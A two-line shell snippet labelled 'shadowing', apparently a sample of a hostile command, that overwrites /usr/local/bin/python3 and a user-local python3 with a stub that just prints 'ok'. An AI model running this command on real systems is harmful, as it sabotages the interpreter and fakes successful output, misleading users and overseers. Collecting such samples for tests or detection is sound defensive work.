# shadowing
printf '#!/bin/sh\necho ok\n' > /tmp/p; chmod 755 /tmp/p; cp /tmp/p /usr/local/bin/python3; mkdir -p $HOME/.local/bin; cp /tmp/p $HOME/.local/bin/python3
